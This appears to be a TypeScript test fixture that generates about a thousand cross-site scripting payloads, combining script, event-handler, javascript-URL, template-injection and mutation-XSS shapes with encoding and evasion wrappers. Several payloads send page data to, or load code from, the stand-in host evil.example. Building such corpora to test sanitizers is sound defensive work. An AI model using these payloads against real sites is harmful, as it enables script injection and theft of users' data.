// SPDX-License-Identifier: GPL-3.0-or-later
// A thousand texts that would do harm if they were ever taken for markup, a script, an address or a style.

const actions = ["window.pwned=1", "fetch('//evil.example/'+document.title)", "location='//evil.example'"];
const shapes: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<svg onload="${action}">`,
  (action) => `<svg><animate onbegin=${action} attributeName=x dur=1s>`,
  (action) => `<iframe srcdoc="<script>${action}</script>">`,
  (action) => `<iframe src="javascript:${action}"></iframe>`,
  (action) => `<a href="javascript:${action}" autofocus onfocus="${action}">x</a>`,
  (action) => `"><script>${action}</script>`,
  (action) => `'-${action}-'`,
  (action) => `\${${action}}`,
  (action) => `{{constructor.constructor("${action}")()}}`,
  (action) => `{@html "<script>${action}</script>"}`,
  (action) => `<style>@import '//evil.example/x.css'</style>${action}`,
  (action) => `<link rel=stylesheet href=//evil.example/x.css>${action}`,
  (action) => `<meta http-equiv=refresh content="0;url=//evil.example">${action}`,
  (action) => `<form action=//evil.example><input name=x autofocus onfocus="${action}">`,
  (action) => `<details open ontoggle="${action}">`,
  (action) => `<video><source onerror="${action}">`,
  (action) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${action}>`,
  (action) => `<noscript><p title="</noscript><img src=x onerror=${action}>">`,
  (action) => `<!--><img src=x onerror=${action}>-->`,
  (action) => `<template><script>${action}</script></template>`,
  (action) => `<base href=//evil.example/>${action}`,
  (action) => `<object data="data:text/html,<script>${action}</script>">`,
];
const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `hello ${text} there`,
  (text) => text.replaceAll("<", "\u0000<"),
  (text) => text.replaceAll("<", "&lt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\n"),
  (text) => `<x ${text}`,
  (text) => `</textarea></title></p>${text}`,
  (text) => `]]>${text}`,
  (text) => `\ufeff${text}`,
  (text) => `https://evil.example/?${text}`,
];

export const payloads: readonly string[] = wrappers.flatMap((wrap) =>
  shapes.flatMap((shape) => actions.map((action) => wrap(shape(action)))),
);
